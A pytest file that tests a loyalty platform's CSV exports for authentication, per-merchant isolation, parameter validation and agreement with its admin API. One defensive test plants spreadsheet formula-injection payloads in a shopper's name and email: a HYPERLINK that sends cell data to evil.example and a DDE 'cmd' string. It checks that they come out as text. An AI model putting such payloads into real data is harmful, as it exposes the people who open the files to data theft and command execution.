# ruff: noqa: F811  (pytest fixtures imported from the schema tests are parameters of the tests)
"""CSV exports over real HTTP (uvicorn on a socket), on the seeded sandbox merchant: only the
merchant's own credential opens them and only its own rows come out; bad names and parameters
are refused with a message; a formula planted in a shopper's name comes out as text; and the
members file holds exactly the members, and the same figures, that the admin API's ``members``
list answers for the same filter (every page of it read)."""

from __future__ import annotations

import csv
import io
import uuid
from collections import Counter
from decimal import Decimal
from typing import Any

import httpx
import pytest

from app.auth import api_keys
from insights.models import ClvPrediction, ProfileSegment
from loyalty.models import Member
from measure.models import ProgramImpactReport
from measure.refresh import refresh_measurement
from measure.value import refresh_value_tiers
from schema.core.ids import to_gid
from store.models import ApiKey, Customer, Profile, Store
from tests.app.serving import serving
from tests.app.test_review_intake import listening
from tests.schema.conftest import (  # noqa: F401  (the seeded world)
    API_KEY,
    APP_SECRET,
    AS_OF,
    database_url,
    db,
    private_db,
    private_world,
    session_token,
    template,
    world,
)

pytestmark = pytest.mark.db

MEMBERS_QUERY = """query($after: String, $storeId: ID, $search: String, $segment: String, $tier: String,
  $churnBand: ChurnBand, $valueTier: ValueTier) {
  members(first: 60, after: $after, storeId: $storeId, search: $search, segment: $segment, tier: $tier,
          churnBand: $churnBand, valueTier: $valueTier) {
    pageInfo { hasNextPage endCursor }
    nodes { id joinedAt balance { available pending lifetime } tier { name }
      profile { id email displayName churnBand segment { name tier }
        prediction { currencyCode clv { value { amount } } }
        transactions { orders firstOrderAt lastOrderAt revenue { currencyCode revenue { amount } } } } } } }"""


def parse(response: httpx.Response) -> list[dict[str, str]]:
    """The CSV as Excel reads it: BOM first, CRLF lines, a header row."""
    assert response.status_code == 200, response.text
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8").removeprefix("\ufeff")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def api_members(client: httpx.AsyncClient, key: str, **filters: Any) -> list[dict[str, Any]]:
    """Every member the admin API lists for ``filters``, all pages read."""
    out: list[dict[str, Any]] = []
    after = None
    while True:
        response = await client.post(
            "/graphql/admin",
            json={"query": MEMBERS_QUERY, "variables": {**filters, "after": after}},
            headers={"Authorization": f"Bearer {key}"},
        )
        body = response.json()
        assert "errors" not in body, body
        page = body["data"]["members"]
        out += page["nodes"]
        if not page["pageInfo"]["hasNextPage"]:
            return out
        after = page["pageInfo"]["endCursor"]


def money(value: str | None) -> Decimal | None:
    return Decimal(value) if value not in (None, "") else None


def expected_row(node: dict[str, Any]) -> dict[str, Any]:
    """The CSV row the API's answer for one member calls for."""
    person = node["profile"]
    segment, prediction, facts = person["segment"], person["prediction"], person["transactions"]
    paid = [r["currencyCode"] for r in (facts or {}).get("revenue", [])]
    main = prediction["currencyCode"] if prediction else paid[0] if len(paid) == 1 else None
    revenue = next((r for r in (facts or {}).get("revenue", []) if r["currencyCode"] == main), None)
    return {
        "member_id": node["id"],
        "profile_id": person["id"],
        "email": person["email"] or "",
        "name": person["displayName"],
        "points_available": str(node["balance"]["available"]),
        "points_pending": str(node["balance"]["pending"]),
        "points_lifetime": str(node["balance"]["lifetime"]),
        "tier": node["tier"]["name"] if node["tier"] else "",
        "segment": segment["name"] if segment else "",
        "value_tier": segment["tier"].lower() if segment else "",
        "clv": money(prediction["clv"]["value"]["amount"]) if prediction else None,
        "clv_currency": prediction["currencyCode"] if prediction else "",
        "churn_band": person["churnBand"].lower() if person["churnBand"] else "",
        "orders": str(facts["orders"]) if facts else "0",
        "first_order_at": facts["firstOrderAt"] if facts else "",
        "last_order_at": facts["lastOrderAt"] if facts else "",
        "revenue": money(revenue["revenue"]["amount"]) if revenue else None,
        "joined_at": node["joinedAt"],
    }


def as_compared(row: dict[str, str]) -> dict[str, Any]:
    """A CSV row in the API's terms (money as Decimal, times as the API writes them)."""
    from datetime import datetime

    out: dict[str, Any] = {k: row[k] for k in row}
    out["clv"], out["revenue"] = money(row["clv"]), money(row["revenue"])
    for name in ("first_order_at", "last_order_at", "joined_at"):
        if row[name]:
            out[name] = datetime.fromisoformat(row[name])
    return out


def api_times(row: dict[str, Any]) -> dict[str, Any]:
    from datetime import datetime

    for name in ("first_order_at", "last_order_at", "joined_at"):
        if row[name]:
            row[name] = datetime.fromisoformat(row[name])
    return row


async def export(client: httpx.AsyncClient, name: str, key: str | None, **params: str) -> httpx.Response:
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    return await client.get(f"/admin/exports/{name}.csv", params=params, headers=headers)


@pytest.fixture
def http_app(database_url: str) -> Any:
    """The app served over a real socket (uvicorn), session tokens accepted as the dashboard sends them."""
    return serving(database_url, shopify_api_key=API_KEY, shopify_api_secret=APP_SECRET)


async def test_the_members_csv_has_exactly_the_members_and_figures_the_api_lists_for_each_filter(
    database_url, db, world, http_app
):
    owner = (await api_keys.issue(world.merchant.id, "exports")).secret
    assert await Member.filter(merchant_id=world.merchant.id).count() > 60  # more than one API page
    champions = await ProfileSegment.filter(merchant_id=world.merchant.id, segment="champions").count()
    assert champions > 0
    some = await Customer.filter(store_id=world.woo.id, first_name__not_isnull=True).first()
    filters: list[dict[str, str]] = [
        {},
        {"valueTier": "VIP"},
        {"segment": "Champions"},
        {"churnBand": "HIGH"},
        {"storeId": to_gid("Store", world.woo.id)},
        {"tier": "none"},
        {"search": (some.first_name or "")[:4]},
        {"valueTier": "AT_RISK", "storeId": to_gid("Store", world.shopify.id)},
    ]
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        for chosen in filters:
            listed = [api_times(expected_row(n)) for n in await api_members(client, owner, **chosen)]
            response = await export(client, "members", owner, **chosen)
            rows = parse(response)
            assert [r["member_id"] for r in rows] == [r["member_id"] for r in listed], chosen  # same rows, same order
            for row, wanted in zip(rows, listed, strict=True):
                got = as_compared(row)
                assert {k: got[k] for k in wanted} == wanted, (chosen, row)
            if not chosen:
                everyone = rows
    assert len(everyone) == await Member.filter(merchant_id=world.merchant.id, merged_into_id=None).count()
    # consent, independently: the newest live account of the person says whether they accept marketing
    accounts = await Customer.filter(merchant_id=world.merchant.id, deleted_at=None).values_list(
        "profile_id", "platform_updated_at", "id", "accepts_marketing"
    )
    newest: dict[int, tuple[Any, int, bool]] = {}
    for pid, updated, cid, accepts in accounts:
        if pid not in newest or (updated, cid) > newest[pid][:2]:
            newest[pid] = (updated, cid, bool(accepts))
    for row in everyone:
        pid = int(row["profile_id"].rsplit("/", 1)[1])
        assert row["marketing_consent"] == ("true" if newest.get(pid, (0, 0, False))[2] else "false")
    assert Counter(r["marketing_consent"] for r in everyone)["true"] > 0


async def test_no_credential_a_storefront_key_a_shopper_token_or_a_revoked_key_is_refused(
    database_url, db, world, http_app
):
    issued = await api_keys.issue(world.merchant.id, "revoked soon")
    await ApiKey.filter(id=issued.key.id).update(revoked_at=issued.key.created_at)
    store = await Store.get(id=world.shopify.id)
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        owner = (await api_keys.issue(world.merchant.id, "owner")).secret
        minted = await client.post(
            "/graphql/admin",
            json={
                "query": "mutation($id: ID!) { shopperTokenCreate(input: {customerId: $id}) { token } }",
                "variables": {"id": to_gid("Customer", world.shopper.id)},
            },
            headers={"Authorization": f"Bearer {owner}"},
        )
        shopper = minted.json()["data"]["shopperTokenCreate"]["token"]
        refused = [
            await client.get("/admin/exports/members.csv"),
            await client.get("/admin/exports/members.csv", headers={"X-Rapport-Store-Key": store.public_key}),
            await client.get("/admin/exports/members.csv", headers={"Authorization": f"Bearer {store.public_key}"}),
            await client.get(
                "/admin/exports/members.csv",
                headers={"X-Rapport-Store-Key": store.public_key, "X-Rapport-Shopper-Token": shopper},
            ),
            await client.get("/admin/exports/members.csv", headers={"Authorization": f"Bearer {shopper}"}),
            await client.get("/admin/exports/members.csv", headers={"Authorization": f"Bearer {issued.secret}"}),
            await client.get("/admin/exports/members.csv", headers={"Authorization": "Bearer rpk_0123456789ab_x"}),
            await client.get(
                "/admin/exports/members.csv", headers={"Authorization": f"Bearer {session_token(secret='wrong')}"}
            ),
            await client.get("/admin/exports/segments.csv"),
        ]
        for response in refused:
            assert response.status_code == 401, response.text
            assert "text/csv" not in response.headers["content-type"]
            assert "member_id" not in response.text
        # the dashboard's own credential, a Shopify session token of the merchant's shop, opens it
        await Store.filter(id=world.shopify.id).update(domain="northwind.myshopify.com")
        dashboard = await client.get(
            "/admin/exports/members.csv", headers={"Authorization": f"Bearer {session_token()}"}
        )
        assert len(parse(dashboard)) > 0


async def test_another_merchants_key_sees_only_its_own_rows_and_ids(database_url, db, world, http_app):
    profile = await Profile.create(merchant_id=world.other_merchant.id)
    await Customer.create(
        merchant_id=world.other_merchant.id,
        store_id=world.other_store.id,
        platform_id="900001",
        profile=profile,
        owner=profile,
        email="only.theirs@example.org",
        first_name="Theirs",
        platform_updated_at=profile.created_at,
        content_hash="x",
    )
    await Member.create(merchant_id=world.other_merchant.id, profile=profile, referral_code=f"T{uuid.uuid4().hex[:8]}")
    mine = (await api_keys.issue(world.merchant.id, "mine")).secret
    theirs = (await api_keys.issue(world.other_merchant.id, "theirs")).secret
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        their_rows = parse(await export(client, "members", theirs))
        assert [r["email"] for r in their_rows] == ["only.theirs@example.org"]
        assert parse(await export(client, "segments", theirs)) == []  # no insights of theirs yet
        my_rows = parse(await export(client, "members", mine))
        assert "only.theirs@example.org" not in {r["email"] for r in my_rows}
        # a filter naming the other merchant's store finds none of my members, and none of theirs
        assert parse(await export(client, "members", mine, storeId=to_gid("Store", world.other_store.id))) == []
        assert parse(await export(client, "members", mine, search="Theirs")) == []
        response = await export(client, "members", theirs)
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["content-disposition"].startswith('attachment; filename="other-records-members-')


async def test_unknown_exports_and_bad_parameters_are_refused_with_a_message(database_url, db, world, http_app):
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        missing = await export(client, "orders", owner)
        assert missing.status_code == 404 and "members" in missing.json()["error"]
        assert (
            await client.get("/admin/exports/members.json", headers={"Authorization": f"Bearer {owner}"})
        ).status_code == 404
        cases = {
            ("valueTier", "GOLD"): "valueTier must be one of VIP, REGULAR, AT_RISK, LOST",
            ("churnBand", "extreme"): "churnBand must be one of LOW, MEDIUM, HIGH",
            ("segment", "whales"): 'Unknown segment "whales" in segment; valid values:',
            ("tier", "Mithril"): 'Unknown loyalty tier "Mithril" in tier; valid values:',
            ("storeId", "12"): "is not a Rapport global id",
            ("storeId", to_gid("Product", 1)): "storeId must be a Store id",
            ("first", "10"): "unknown parameter 'first' for the members export",
        }
        for (name, value), message in cases.items():
            response = await export(client, "members", owner, **{name: value})
            assert response.status_code == 400, (name, response.text)
            assert message in response.json()["error"], (name, response.json())
            assert response.headers["cache-control"] == "no-store"
        assert (await export(client, "segments", owner, segment="x")).status_code == 400
        # any case of a known value works, as in the API
        assert len(parse(await export(client, "members", owner, valueTier="vip"))) == len(
            parse(await export(client, "members", owner, valueTier="VIP"))
        )


async def test_a_formula_planted_in_a_shoppers_name_comes_out_as_text(database_url, db, world, http_app):
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    member = (
        await Member.filter(merchant_id=world.merchant.id, merged_into_id=None).order_by("-created_at", "-id").first()
    )
    assert member is not None
    planted = {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "last_name": "+cmd|' /C calc'!A0",
        "email": "@SUM(1+1)@example.org",
    }
    person = (await Profile.get(id=member.profile_id)).merged_into_id or member.profile_id
    await Customer.filter(profile_id=person).update(**planted, phone="-2+3")
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        rows = parse(await export(client, "members", owner))
    row = next(r for r in rows if r["member_id"] == to_gid("LoyaltyMember", member.id))
    assert row["name"] == "'" + planted["first_name"] + " " + planted["last_name"]
    assert row["email"] == "'" + planted["email"]
    for each in rows:
        for value in each.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value


async def test_the_segments_csv_counts_people_members_spend_and_clv_per_segment(database_url, db, world, http_app):
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:
        rows = parse(await export(client, "segments", owner))
    # independently, in Python over the stored rows
    segments = await ProfileSegment.filter(merchant_id=world.merchant.id).values_list(
        "profile_id", "segment", "currency", "monetary"
    )
    clv = {
        (p, c): v
        for p, c, v in await ClvPrediction.filter(merchant_id=world.merchant.id).values_list(
            "profile_id", "currency", "clv"
        )
    }
    members = await Member.filter(merchant_id=world.merchant.id, merged_into_id=None).values_list(
        "profile_id", flat=True
    )
    merged = dict(await Profile.filter(id__in=list(members)).values_list("id", "merged_into_id"))
    people_in_program = {merged.get(m) or m for m in members}
    expected: dict[tuple[str, str], list[Any]] = {}
    for pid, name, currency, spend in segments:
        got = expected.setdefault((name, currency), [0, 0, Decimal(0), Decimal(0)])
        got[0] += 1
        got[1] += pid in people_in_program
        got[2] += spend
        got[3] += clv.get((pid, currency), Decimal(0))
    assert {(r["segment"], r["currency"]) for r in rows} == set(expected)
    for r in rows:
        people, in_program, spend, value = expected[(r["segment"], r["currency"])]
        assert int(r["people"]) == people and int(r["members"]) == in_program, r
        assert Decimal(r["revenue"]) == spend.quantize(Decimal("0.01")), r
        assert Decimal(r["total_clv"]) == value.quantize(Decimal("0.01")), r
        assert abs(float(r["share_of_people"]) - people / len(segments)) < 1e-4
    assert [int(r["people"]) for r in rows] == sorted((int(r["people"]) for r in rows), reverse=True)


ANALYTICS = """query($storeId: ID, $since: Date, $until: Date) {
  retention(storeId: $storeId, since: $since, until: $until) { months { month activeCustomers newCustomers
    returningCustomers retentionRate repeatPurchaseRate purchaseFrequency medianDaysBetweenOrders } }
  cohorts(storeId: $storeId, since: $since, until: $until) { currencyCode cohorts { month customers
    cells { monthsSince activeCustomers share revenuePerCustomer } } }
  byCohort: clvBreakdown(by: COHORT) { key label customers averageClv totalClv currencyCode }
  byStore: clvBreakdown(by: STORE) { key label customers averageClv totalClv currencyCode }
  byPlatform: clvBreakdown(by: PLATFORM) { key label customers averageClv totalClv currencyCode }
  valueTierRevenue(since: $since, until: $until) { month currencyCode tiers { valueTier revenue share customers } }
  valueTierFlows { fromMonth toMonth flows { from to customers } } }"""


def same(csv_value: str, api_value: Any) -> bool:
    """A CSV cell against the API's value: numbers compared as numbers, null as an empty cell."""
    if api_value is None:
        return csv_value == ""
    if isinstance(api_value, bool):
        return csv_value == str(api_value).lower()
    if isinstance(api_value, int | float):
        return abs(float(csv_value) - float(api_value)) < 1e-9
    try:
        return Decimal(csv_value) == Decimal(api_value)
    except ArithmeticError:
        return csv_value == str(api_value).lower() or csv_value == api_value


@pytest.mark.parametrize("params", [{}, {"since": "1997-03-01", "until": "1997-12-31"}], ids=["all time", "a period"])
async def test_every_analytics_table_is_the_admin_apis_answer_for_the_same_parameters(
    database_url, db, world, http_app, params
):
    await refresh_value_tiers(world.merchant.id, AS_OF)  # as the insights job does after each refresh
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    per_store = {**params, "storeId": to_gid("Store", world.woo.id)}
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=60) as client:

        async def api(variables: dict[str, str]) -> dict[str, Any]:
            response = await client.post(
                "/graphql/admin",
                json={"query": ANALYTICS, "variables": variables},
                headers={"Authorization": f"Bearer {owner}"},
            )
            body = response.json()
            assert "errors" not in body, body
            return body["data"]

        answer, store_answer = await api(params), await api(per_store)
        period = {k: v for k, v in params.items()}
        files = {
            "retention": parse(await export(client, "retention", owner, **period)),
            "retention-store": parse(await export(client, "retention", owner, **per_store)),
            "cohorts": parse(await export(client, "cohorts", owner, **period)),
            "cohorts-store": parse(await export(client, "cohorts", owner, **per_store)),
            "clv-cohort": parse(await export(client, "clv-cohort", owner)),
            "clv-store": parse(await export(client, "clv-store", owner)),
            "clv-platform": parse(await export(client, "clv-platform", owner)),
            "value-tier-revenue": parse(await export(client, "value-tier-revenue", owner, **period)),
            "value-tier-flows": parse(await export(client, "value-tier-flows", owner)),
        }
        bad = await export(client, "value-tier-flows", owner, month="1997-13")
        assert bad.status_code == 400 and "YYYY-MM" in bad.json()["error"]
        foreign = await export(client, "retention", owner, storeId=to_gid("Store", world.other_store.id))
        assert foreign.status_code == 400 and "no store of this merchant" in foreign.json()["error"]
        backwards = await export(client, "cohorts", owner, since="1998-01-01", until="1997-01-01")
        assert backwards.status_code == 400
    wanted: dict[str, list[list[Any]]] = {}
    for name, got in (("retention", answer), ("retention-store", store_answer)):
        wanted[name] = [
            [
                m["month"],
                m["activeCustomers"],
                m["newCustomers"],
                m["returningCustomers"],
                m["retentionRate"],
                m["repeatPurchaseRate"],
                m["purchaseFrequency"],
                m["medianDaysBetweenOrders"],
            ]
            for m in got["retention"]["months"]
        ]
    for name, got in (("cohorts", answer), ("cohorts-store", store_answer)):
        matrix = got["cohorts"]
        wanted[name] = [
            [
                r["month"],
                r["customers"],
                c["monthsSince"],
                c["activeCustomers"],
                c["share"],
                c["revenuePerCustomer"],
                matrix["currencyCode"],
            ]
            for r in matrix["cohorts"]
            for c in r["cells"]
        ]
    for name, field in (("clv-cohort", "byCohort"), ("clv-store", "byStore"), ("clv-platform", "byPlatform")):
        wanted[name] = [
            [g["key"], g["label"], g["customers"], g["averageClv"], g["totalClv"], g["currencyCode"]]
            for g in answer[field]
        ]
    wanted["value-tier-revenue"] = [
        [m["month"], t["valueTier"].lower(), t["revenue"], t["share"], t["customers"], m["currencyCode"]]
        for m in answer["valueTierRevenue"]
        for t in m["tiers"]
    ]
    flows = answer["valueTierFlows"]
    wanted["value-tier-flows"] = [
        [flows["fromMonth"], flows["toMonth"], (f["from"] or "").lower() or None, f["to"].lower(), f["customers"]]
        for f in flows["flows"]
    ]
    for name, rows in files.items():
        assert wanted[name], name  # the sandbox has something to export in each
        assert len(rows) == len(wanted[name]), name
        for row, expected in zip(rows, wanted[name], strict=True):
            cells = list(row.values())
            assert all(same(c, e) for c, e in zip(cells, expected, strict=True)), (name, cells, expected)


IMPACT = """query($since: Date, $until: Date, $period: ImpactPeriod) {
  programImpact(since: $since, until: $until, period: $period) {
  period since until asOf kept freshness method summary currencyCode windowDays
  raw { members { ...g } nonMembers { ...g } }
  matched { pairs unmatched members { ...g } controls { ...g } effect { ...e } ordersEffect { ...e } }
  prePost { members before { ...g } after { ...g } }
  roi { incrementalRevenue incrementalRevenueLow incrementalRevenueHigh marginRate incrementalMargin rewardsCost
        pointsCost net roi low high currencyCode }
  campaigns { campaign { name } uplift { ...e } } } }
fragment g on GroupFigures { customers ordersPerCustomer revenuePerCustomer repeatRate }
fragment e on ImpactEstimate { value low high unit }"""


async def test_the_program_impact_csv_is_the_admin_apis_answer_one_figure_a_row(database_url, db, world, http_app):
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    period = {"since": "1997-01-01", "until": "1998-06-30"}
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=120) as client:
        response = await client.post(
            "/graphql/admin",
            json={"query": IMPACT, "variables": period},
            headers={"Authorization": f"Bearer {owner}"},
        )
        body = response.json()
        assert "errors" not in body, body
        rows = parse(await export(client, "program-impact", owner, **period))
        assert (await export(client, "program-impact", owner, since="yesterday")).status_code == 400
    assert_impact_rows(rows, body["data"]["programImpact"])


def assert_impact_rows(rows: list[dict[str, str]], found: dict[str, Any]) -> None:
    """The CSV's figures, one a row, are the API's answer ``found``."""
    figures = {(r["section"], r["group"], r["figure"]): r for r in rows}
    assert same(figures[("source", "", "kept")]["value"], found["kept"])
    assert figures[("source", "", "period")]["value"] == (found["period"] or "")
    assert figures[("source", "", "since")]["value"] == (found["since"] or "")
    assert figures[("source", "", "until")]["value"] == found["until"]
    assert figures[("source", "", "freshness")]["value"] == found["freshness"]
    assert figures[("method", "", "method")]["value"] == found["method"]
    assert figures[("method", "", "summary")]["value"].lstrip("'") == found["summary"]
    assert same(figures[("method", "", "window_days")]["value"], found["windowDays"])
    groups = {
        ("raw", "members"): found["raw"]["members"],
        ("raw", "non_members"): found["raw"]["nonMembers"],
        ("matched", "members"): found["matched"]["members"],
        ("matched", "controls"): found["matched"]["controls"],
        ("pre_post", "before"): found["prePost"]["before"],
        ("pre_post", "after"): found["prePost"]["after"],
    }
    names = {
        "customers": "customers",
        "orders_per_customer": "ordersPerCustomer",
        "revenue_per_customer": "revenuePerCustomer",
        "repeat_rate": "repeatRate",
    }
    for (section, group), wanted in groups.items():
        for figure, field in names.items():
            assert same(figures[(section, group, figure)]["value"], wanted[field]), (section, group, figure)
    for figure, field in (("revenue_per_member", "effect"), ("orders_per_member", "ordersEffect")):
        row, wanted = figures[("matched", "effect", figure)], found["matched"][field]
        assert all(same(row[k], wanted[k]) for k in ("value", "low", "high")) and row["unit"] == wanted["unit"]
    roi = found["roi"]
    assert same(figures[("roi", "", "roi")]["value"], roi["roi"])
    assert same(figures[("roi", "", "roi")]["low"], roi["low"]) and same(
        figures[("roi", "", "roi")]["high"], roi["high"]
    )
    for figure, field in (
        ("incremental_revenue", "incrementalRevenue"),
        ("margin_rate", "marginRate"),
        ("incremental_margin", "incrementalMargin"),
        ("rewards_cost", "rewardsCost"),
        ("points_cost", "pointsCost"),
        ("net", "net"),
    ):
        assert same(figures[("roi", "", figure)]["value"], roi[field]), figure
    assert same(figures[("matched", "", "pairs")]["value"], found["matched"]["pairs"])
    assert len([r for r in rows if r["section"] == "campaigns"]) == len(found["campaigns"])


async def test_the_program_impact_csv_by_period_is_the_kept_report_the_api_reads(database_url, db, world, http_app):
    await refresh_measurement(world.merchant.id, AS_OF)
    owner = (await api_keys.issue(world.merchant.id, "owner")).secret
    other = (await api_keys.issue(world.other_merchant.id, "other")).secret
    async with http_app as app, listening(app) as url, httpx.AsyncClient(base_url=url, timeout=120) as client:
        response = await client.post(
            "/graphql/admin",
            json={"query": IMPACT, "variables": {"period": "LAST_24_MONTHS"}},
            headers={"Authorization": f"Bearer {owner}"},
        )
        body = response.json()
        assert "errors" not in body, body
        rows = parse(await export(client, "program-impact", owner, period="LAST_24_MONTHS"))
        by_value = parse(await export(client, "program-impact", owner, period="24"))  # the dashboard's URL value
        theirs = parse(await export(client, "program-impact", other, period="LAST_24_MONTHS"))
        both = await export(client, "program-impact", owner, period="ALL_TIME", since="1998-01-01")
        unknown = await export(client, "program-impact", owner, period="LAST_7_DAYS")
        anonymous = await export(client, "program-impact", None, period="ALL_TIME")
    found = body["data"]["programImpact"]
    assert found["kept"] is True and found["since"] == "1996-08-01" and found["asOf"].startswith("1998-07-01T00:00")
    assert_impact_rows(rows, found)
    assert by_value == rows
    figures = {(r["section"], r["group"], r["figure"]): r["value"] for r in rows}
    assert figures[("source", "", "as_of")].startswith("1998-07-01T00:00:00")
    mine = {(r["section"], r["group"], r["figure"]): r["value"] for r in theirs}
    assert mine[("source", "", "kept")] == "false" and mine[("raw", "members", "customers")] == "0"
    assert mine[("raw", "non_members", "customers")] == "0"
    assert both.status_code == 400 and "period cannot be combined with since or until" in both.json()["error"]
    assert unknown.status_code == 400 and "LAST_12_MONTHS" in unknown.json()["error"]
    assert anonymous.status_code == 401
    assert not await ProgramImpactReport.filter(merchant_id=world.other_merchant.id).exists()
